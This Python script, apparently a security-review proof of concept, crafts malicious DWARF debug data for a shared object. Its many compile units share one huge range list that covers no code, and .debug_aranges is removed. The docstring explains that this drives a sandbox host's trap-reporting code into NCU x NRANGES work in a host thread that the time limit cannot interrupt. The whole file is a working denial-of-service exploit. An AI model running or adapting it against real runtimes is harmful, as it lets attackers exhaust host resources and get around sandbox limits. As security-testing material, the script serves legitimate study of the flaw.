#!/usr/bin/env python3
"""dwranges_patch.py IN.so OUT.so NCU NRANGES (review4): replaces the
module's DWARF with NCU compile units that all name the same .debug_ranges
list of NRANGES entries (none covers any code), and no .debug_aranges.
At trap time debuginfo.c find_cu asks libdw dwarf_addrdie, then walks up to
CU_MAX (65536) units calling dwarf_haspc on each: every call walks the
whole shared list again, NCU x NRANGES steps in the host thread that
reports the trap (the time limit only interrupts sandbox code)."""
import os, struct, subprocess, sys, tempfile

src, dst, ncu, nr = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
L = "/usr/lib/llvm-22/bin/"
# abbrev 1: DW_TAG_compile_unit, no children, DW_AT_low_pc addr,
# DW_AT_ranges sec_offset
abbrev = bytes([1, 0x11, 0, 0x11, 0x01, 0x55, 0x17, 0, 0, 0])
die = bytes([1]) + struct.pack("<Q", 0) + struct.pack("<I", 0)
body = struct.pack("<HIB", 4, 0, 8) + die
cu = struct.pack("<I", len(body)) + body
info = cu * ncu
ranges = struct.pack("<QQ", 1, 2) * nr + struct.pack("<QQ", 0, 0)
d = tempfile.mkdtemp()
for n, b in (("info", info), ("abbrev", abbrev), ("ranges", ranges)):
    open(os.path.join(d, n), "wb").write(b)
secs = subprocess.run([L + "llvm-readelf", "-S", "-W", src], capture_output=True,
                      text=True).stdout
args = [L + "llvm-objcopy"]
for s in (".debug_aranges", ".debug_rnglists", ".debug_str_offsets",
          ".debug_addr", ".debug_loclists"):
    if s in secs:
        args += ["--remove-section", s]
for n in ("info", "abbrev", "ranges"):
    flag = "--update-section" if (".debug_" + n + " ") in secs else "--add-section"
    args += [flag, ".debug_%s=%s" % (n, os.path.join(d, n))]
subprocess.run(args + [src, dst], check=True)
